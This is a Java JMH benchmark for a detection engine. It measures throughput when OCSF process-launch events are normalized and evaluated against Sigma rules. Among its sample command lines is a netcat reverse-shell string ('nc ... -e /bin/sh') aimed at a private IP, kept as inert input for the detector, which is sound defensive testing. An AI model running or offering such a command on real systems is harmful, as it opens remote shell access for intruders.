package io.chirp.bench;

import io.chirp.detect.Detector;
import io.chirp.detect.eval.CompiledRule;
import io.chirp.detect.ocsf.OcsfPipeline;
import io.chirp.events.OcsfEvent;
import io.chirp.events.build.EventContext;
import io.chirp.events.build.ParentInfo;
import io.chirp.events.build.ProcessActivity;
import io.chirp.events.build.ProcessInfo;
import io.chirp.events.build.UserInfo;
import io.chirp.events.build.VmIdentity;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Events per second on one core through the monitor's hot path: build the OCSF event for a process launch,
 * map it to Sigma fields, evaluate 100 rules (CHIRP's shipped rules plus SigmaHQ's Linux process_creation rules).
 * Baseline in the same run: building the OCSF event alone.
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Fork(value = 1, jvmArgsAppend = "--enable-native-access=ALL-UNNAMED")
@Threads(1)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
public class DetectionBenchmark {
    Detector detector;
    EventContext ctx;
    ProcessInfo[] processes;
    int i;
    int ruleCount;

    @Setup
    public void setup() {
        List<CompiledRule> rules = new ArrayList<>(Detector.shipped().rules());
        Path sigma = BenchData.sigmaLinux().resolve("process_creation");
        for (CompiledRule r : Detector.load(sigma).rules()) {
            if (rules.size() >= 100) break;
            rules.add(r);
        }
        detector = Detector.of(rules);
        ruleCount = detector.rules().size();
        ctx = EventContext.of(new VmIdentity("host", "vm", null, "QEMU"));
        String[][] cmds = {{"/usr/bin/ls", "ls -la /srv"}, {"/usr/bin/curl", "curl -s https://example.org/x"},
                {"/bin/busybox", "nc 10.0.2.100 8001 -e /bin/sh"}, {"/usr/bin/python3", "python3 -c print(1)"},
                {"/tmp/dropper", "/tmp/dropper --install"}, {"/usr/sbin/cron", "/usr/sbin/cron -f"}};
        processes = new ProcessInfo[cmds.length];
        for (int k = 0; k < cmds.length; k++) {
            processes[k] = ProcessInfo.of(1000 + k, cmds[k][0].substring(cmds[k][0].lastIndexOf('/') + 1))
                    .withPath(cmds[k][0]).withCmdLine(cmds[k][1]).withUser(UserInfo.linux(0, "root"))
                    .withParent(new ParentInfo(1, "sh", "/bin/sh"));
        }
    }

    /** Build the OCSF event, map it to Sigma, evaluate every rule. */
    @Benchmark
    public int normalizeAndDetect() {
        OcsfEvent e = ProcessActivity.launch(ctx, processes[i++ % processes.length]).build();
        return OcsfPipeline.standard().map(e.json()).map(s -> detector.detect(s).size()).orElse(-1);
    }

    /** Baseline: building the OCSF event only. */
    @Benchmark
    public OcsfEvent normalizeOnly() {
        return ProcessActivity.launch(ctx, processes[i++ % processes.length]).build();
    }
}
